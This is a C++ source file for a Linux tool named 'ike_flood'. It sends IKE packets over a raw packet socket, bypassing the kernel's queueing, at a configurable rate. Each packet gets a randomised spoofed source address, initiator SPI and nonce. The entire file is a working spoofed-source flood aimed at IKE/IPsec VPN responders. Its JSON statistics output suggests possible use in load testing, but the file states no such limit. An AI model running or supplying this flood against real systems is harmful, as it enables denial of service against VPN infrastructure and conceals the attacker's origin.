// A flood of IKE messages from sources that are not there: copies of one frame, each with another source address,
// another initiator's SPI and another nonce.
//
//   ike_flood DEVICE FRAME RATE SECONDS     FRAME: Ethernet, IPv4 without options, UDP, IKE, in hexadecimal, its nonce
//   last
//
// Ends by itself or by SIGTERM with one JSON line: what was sent, in how long. As many as the machine lets through
// where RATE is more than that.
#include <net/ethernet.h>
#include <net/if.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <atomic>
#include <chrono>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <string>
#include <thread>
#include <vector>

#include <linux/if_packet.h>

namespace {

constexpr std::size_t ip_at = 14, source_at = ip_at + 12, ike_at = ip_at + 20 + 8, nonce_size = 32, batch = 64;
std::atomic<bool> stopped{false};
static_assert(std::atomic<bool>::is_always_lock_free);

std::vector<std::uint8_t> from_hex(const std::string& text) {
  std::vector<std::uint8_t> out;
  for (std::size_t i = 0; i + 1 < text.size(); i += 2)
    out.push_back(static_cast<std::uint8_t>(std::strtoul(text.substr(i, 2).c_str(), nullptr, 16)));
  return out;
}

void fill_checksum(std::uint8_t* ip) {
  ip[10] = ip[11] = 0;
  std::uint32_t sum = 0;
  for (std::size_t i = 0; i < 20; i += 2) sum += static_cast<std::uint32_t>(ip[i] << 8 | ip[i + 1]);
  while (sum >> 16 != 0) sum = (sum & 0xffff) + (sum >> 16);
  ip[10] = static_cast<std::uint8_t>(~sum >> 8);
  ip[11] = static_cast<std::uint8_t>(~sum);
}

class flood {
 public:
  flood(int socket, const std::vector<std::uint8_t>& frame) : socket_(socket) {
    for (std::size_t i = 0; i < batch; ++i) {
      frames_[i] = frame;
      parts_[i] = {frames_[i].data(), frames_[i].size()};
      messages_[i] = {};
      messages_[i].msg_hdr.msg_iov = &parts_[i];
      messages_[i].msg_hdr.msg_iovlen = 1;
    }
  }
  // How many the device took.
  unsigned send(unsigned count) {
    for (unsigned i = 0; i < count; ++i) change(frames_[i]);
    const int taken = ::sendmmsg(socket_, messages_.data(), count, 0);
    return taken < 0 ? 0 : static_cast<unsigned>(taken);
  }

 private:
  void change(std::vector<std::uint8_t>& frame) {
    const auto put = [&](std::size_t at, std::size_t size) {
      for (std::size_t i = 0; i < size; i += 8) {
        const auto number = chance_();
        std::memcpy(&frame[at + i], &number, std::min<std::size_t>(8, size - i));
      }
    };
    put(source_at, 4);
    frame[source_at] = static_cast<std::uint8_t>(11 + frame[source_at] % 80);  // nobody's loopback, no multicast
    fill_checksum(&frame[ip_at]);
    put(ike_at, 8);
    put(frame.size() - nonce_size, nonce_size);
  }

  int socket_;
  std::mt19937_64 chance_{std::random_device{}()};
  std::array<std::vector<std::uint8_t>, batch> frames_;
  std::array<iovec, batch> parts_{};
  std::array<mmsghdr, batch> messages_{};
};

}  // namespace

int main(int argc, char** argv) {
  if (argc != 5) {
    std::fprintf(stderr, "ike_flood DEVICE FRAME RATE SECONDS\n");
    return 1;
  }
  const auto frame = from_hex(argv[2]);
  const double rate = std::atof(argv[3]), seconds = std::atof(argv[4]);
  const int socket = ::socket(AF_PACKET, SOCK_RAW, 0);
  sockaddr_ll to{};
  to.sll_family = AF_PACKET;
  to.sll_ifindex = static_cast<int>(::if_nametoindex(argv[1]));
  const int past_qdisc = 1;
  if (frame.size() < ike_at + 28 + nonce_size || socket < 0 || to.sll_ifindex == 0 ||
      ::bind(socket, reinterpret_cast<const sockaddr*>(&to), sizeof to) != 0 ||
      ::setsockopt(socket, SOL_PACKET, PACKET_QDISC_BYPASS, &past_qdisc, sizeof past_qdisc) != 0) {
    std::perror("ike_flood");
    return 1;
  }
  std::signal(SIGTERM, [](int) { stopped = true; });
  flood out(socket, frame);
  const auto begun = std::chrono::steady_clock::now();
  const auto passed = [&] { return std::chrono::duration<double>(std::chrono::steady_clock::now() - begun).count(); };
  std::uint64_t sent = 0;
  double now = 0;
  while (!stopped && (now = passed()) < seconds) {
    const auto due = static_cast<std::uint64_t>(now * rate);
    if (due > sent)
      sent += out.send(static_cast<unsigned>(std::min<std::uint64_t>(batch, due - sent)));
    else
      std::this_thread::sleep_for(std::chrono::microseconds(200));
  }
  std::printf("{\"sent\": %llu, \"seconds\": %.3f, \"rate\": %.0f}\n", static_cast<unsigned long long>(sent), now,
              static_cast<double>(sent) / now);
  return 0;
}
